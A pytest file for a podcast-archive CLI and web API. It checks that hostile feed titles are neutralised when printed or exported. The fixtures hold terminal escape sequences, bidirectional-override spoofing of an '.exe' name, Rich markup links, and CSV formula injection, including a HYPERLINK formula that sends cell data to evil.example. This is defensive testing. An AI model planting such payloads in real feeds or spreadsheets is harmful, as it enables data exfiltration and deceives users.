"""Feed text printed by the real CLI: never read as Rich markup or emoji codes, never a terminal escape sequence or a
bidirectional override, never a spreadsheet formula in CSV; charts and checks of what publishers wrote."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from rich.text import Text

from fonoteca.app import Fonoteca
from fonoteca.archive import Archive, Segment
from fonoteca.cli.console import SafeConsole
from fonoteca.settings import Settings

SHOW = "Show [bold]loud[/] \x1b]0;owned\x07"
MARKUP = "Close tag [/]"
ESCAPES = "\x1b]0;owned\x07Clear \x1b[2Jscreen \x9b31mred"
PENDING = "Pending [link=http://evil.example]click[/link]"
CONTROL_BYTES = ("\x1b", "\x07", "\x9b")


@pytest.fixture
def hostile_archive(settings: Settings) -> Settings:
    with Archive(settings.db_path) as archive:
        show, _ = archive.add_show(title=SHOW, source="https://example.org/feed.xml", source_kind="feed")
        for guid, title in (("markup", MARKUP), ("escapes", ESCAPES)):
            episode, _ = archive.upsert_episode(
                show, guid=guid, title=title, kind="audio", published="2024-01-01T00:00:00Z", status="done",
                duration=60.0, source="transcribed",
            )  # fmt: skip
            archive.append_segments(episode.id, [Segment(0.0, 5.0, f"streaming {title}")])
        archive.upsert_episode(show, guid="pending", title=PENDING, kind="audio", status="new")
        Fonoteca(settings, archive=archive).update_index()
    return settings


def fonoteca(settings: Settings, *args: str) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(settings.home),
        "FONOTECA_HOME": str(settings.home),
        "COLUMNS": "300",  # wide enough that no table cuts a title
        **{name: os.environ[name] for name in ("PYTHONPATH",) if name in os.environ},  # a checkout run uncompiled
    }
    return subprocess.run(
        [sys.executable, "-m", "fonoteca", "--db", str(settings.db_path), *args],
        capture_output=True, text=True, timeout=120, env=env,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("command", "visible"),
    [
        (["shows"], ["Show [bold]loud[/] ]0;owned"]),
        (["episodes"], [MARKUP, "Clear [2Jscreen 31mred"]),
        (["search", "streaming"], [MARKUP, "Clear [2Jscreen 31mred", "Show [bold]loud[/]"]),
        (["status"], [PENDING]),
        (["stats"], ["Show [bold]loud[/]"]),
    ],
)
def test_feed_titles_print_as_written_without_markup_or_escape_sequences(
    hostile_archive: Settings, command: list[str], visible: list[str]
) -> None:
    result = fonoteca(hostile_archive, *command)
    assert result.returncode == 0, result.stderr
    for text in visible:
        assert text in result.stdout
    for byte in CONTROL_BYTES:
        assert byte not in result.stdout


def test_json_output_keeps_titles_exactly_as_stored(hostile_archive: Settings) -> None:
    result = fonoteca(hostile_archive, "episodes", "--json")
    assert result.returncode == 0
    assert {e["title"] for e in json.loads(result.stdout)} == {MARKUP, ESCAPES, PENDING}


def test_the_console_strips_control_characters_it_is_handed_without_escaping() -> None:
    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=False, width=200)
    console.print(Text("title \x1b[2J\x1b]0;x\x07end"))
    console.out("token \x9b31m")
    assert out.getvalue() == "title [2J]0;xend\ntoken 31m\n"


BIDI = "Episodio \u202egpj.exe\u202c y \u2067aislado\u2069 \u200fRLM"
EMOJI = "Ep :smile: y :thumbs_up: [bold]"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click") streaming'
FORMULA_STARTS = ("+1 streaming", "-2+3 streaming", "@SUM(A1) streaming")


@pytest.fixture
def tricky_archive(settings: Settings) -> Settings:
    """Titles a feed may carry: bidirectional overrides, Rich emoji codes, spreadsheet formulas; and a publisher's
    transcript whose cues repeat, as the publisher wrote them."""
    with Archive(settings.db_path) as archive:
        show, _ = archive.add_show(title="Show", source="https://example.org/feed.xml", source_kind="feed")
        for n, title in enumerate((BIDI, EMOJI, FORMULA, *FORMULA_STARTS)):
            episode, _ = archive.upsert_episode(
                show, guid=f"g{n}", title=title, kind="audio", published=f"2024-01-0{n + 1}T00:00:00Z",
                status="done", duration=60.0, source="publisher",
            )  # fmt: skip
            archive.append_segments(
                episode.id, [Segment(0.0, 2.0, "streaming"), Segment(2.0, 4.0, "Yes."), Segment(2.0, 4.0, "Yes.")]
            )  # a cue the publisher wrote twice
        Fonoteca(settings, archive=archive).update_index()
    return settings


def test_bidirectional_overrides_in_titles_never_reach_the_terminal(tricky_archive: Settings) -> None:
    for command in (["episodes"], ["search", "streaming"]):
        result = fonoteca(tricky_archive, *command)
        assert result.returncode == 0, result.stderr
        assert "Episodio gpj.exe y aislado RLM" in result.stdout
        assert not any(ch in result.stdout for ch in "\u202e\u202c\u2067\u2069\u200f")


def test_emoji_codes_in_titles_print_as_written(tricky_archive: Settings) -> None:
    result = fonoteca(tricky_archive, "episodes")
    assert EMOJI in result.stdout and "😄" not in result.stdout and "👍" not in result.stdout


def test_the_trend_csv_never_starts_a_cell_with_a_formula(tricky_archive: Settings) -> None:
    from fastapi.testclient import TestClient

    from fonoteca.web.app import create_app

    printed = fonoteca(tricky_archive, "trend", "streaming", "--csv")
    assert printed.returncode == 0, printed.stderr
    downloaded = TestClient(create_app(tricky_archive)).get("/api/trend.csv", params={"term": "streaming"})
    assert downloaded.status_code == 200
    formulas = {"'" + FORMULA, *("'" + title for title in FORMULA_STARTS)}  # shown as written by a spreadsheet
    for body, bidi in ((printed.stdout, "Episodio gpj.exe y aislado RLM"), (downloaded.text, BIDI)):
        assert {row["title"] for row in csv.DictReader(io.StringIO(body))} == {bidi, EMOJI, *formulas}
        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_check_does_not_call_a_publishers_repeated_cues_damaged(tricky_archive: Settings) -> None:
    result = fonoteca(tricky_archive, "check")
    assert (result.returncode, result.stdout.strip()) == (0, "No damaged transcripts."), result.stdout
    assert "retry --force" not in result.stdout


def test_trend_of_episodes_without_dates_says_so_instead_of_a_chart(settings: Settings) -> None:
    with Archive(settings.db_path) as archive:
        show, _ = archive.add_show(title="Importadas", source="/tmp/importadas", source_kind="transcripts")
        for n in range(2):
            episode, _ = archive.upsert_episode(
                show, guid=f"import:{n}.vtt", title=f"Sin fecha {n}", kind="audio", status="done", source="imported"
            )
            archive.append_segments(episode.id, [Segment(0.0, 2.0, "streaming y más streaming")])
        Fonoteca(settings, archive=archive).update_index()
    result = fonoteca(settings, "trend", "streaming")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "none of these episodes has a date" in result.stdout
    assert "streaming: 4 mention(s)" in result.stdout
